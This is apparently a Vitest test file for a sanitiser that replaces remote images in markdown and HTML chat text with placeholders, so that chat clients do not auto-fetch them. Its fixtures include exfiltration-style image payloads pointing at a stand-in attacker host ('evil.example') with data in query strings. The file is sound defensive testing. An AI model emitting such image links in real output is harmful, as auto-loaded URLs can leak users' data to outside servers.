// What a chat would fetch by itself does not leave; everything else leaves as it is.
import { expect, test } from 'vitest';
import { withoutRemoteImages } from './remote-images.ts';

test.each([
  ['see ![chart](https://evil.example/?q=4711) there', 'see [picture left out: chart] there'],
  ['![](https://evil.example/a(b).png "t")', '[picture left out]'],
  ['![x][1]\n[1]: https://evil.example', '[picture left out: x]\n[1]: https://evil.example'],
  ['<img src="https://evil.example/?q=1">', '[picture left out]'],
  ['<IMG\nsrc=x>', '[picture left out]'],
  ['[![a](https://evil.example/i)](https://ok.example)', '[[picture left out: a]](https://ok.example)'],
])('%s', (text, shown) => expect(withoutRemoteImages(text)).toBe(shown));

test.each(['a [link](https://ok.example) stays', '5 < 6 and !important', '`![a](b)` and <b>', '```\n![a](b)\n```'])(
  'stays: %s',
  (text) => expect(withoutRemoteImages(text)).toBe(text),
);

test('a megabyte of openings takes linear time', () => {
  const began = performance.now();
  for (const one of ['![', '![a](', '<img ', '![a][', '`']) withoutRemoteImages(one.repeat(200_000));
  expect(performance.now() - began).toBeLessThan(5_000);
});
